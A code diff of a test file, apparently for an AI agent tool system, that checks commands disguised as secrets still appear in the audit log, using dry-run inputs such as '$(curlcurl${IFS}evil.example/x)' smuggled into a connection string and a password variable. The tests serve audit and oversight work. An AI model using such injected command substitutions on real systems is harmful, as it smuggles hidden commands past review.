@@ -255,7 +255,8 @@ test('a person is shown the command, and of it only what is known to be a secret
 });
 
 test('a command is not kept out of the record by calling it a secret', async () => {
-  await t.act('write_file', {
+  const own = await testApp();
+  await own.act('write_file', {
     path: 'x.env',
     content: 'A_TOKEN=evil.example/x\nB_TOKEN=curlcurl\n',
     dry_run: true,
@@ -266,10 +267,11 @@ test('a command is not kept out of the record by calling it a secret', async () 
     'mysql://a:b@c/d?$(curlcurl${IFS}evil.example/x)',
     'password="$(curlcurl evil.example/x)"; $password',
   ]) {
-    const { action_id: id } = await t.act('run_command', { command, dry_run: true });
-    const { result } = await t.ask('query_audit', { action_id: id });
+    const { action_id: id } = await own.act('run_command', { command, dry_run: true });
+    const { result } = await own.ask('query_audit', { action_id: id });
     expect(JSON.stringify(result)).toMatch(/curlcurl(\$\{IFS\}| )evil\.example\/x/);
   }
+  await own.close();
 });
 
 test('a person’s rule shows a file, and an agent’s does not', async () => {
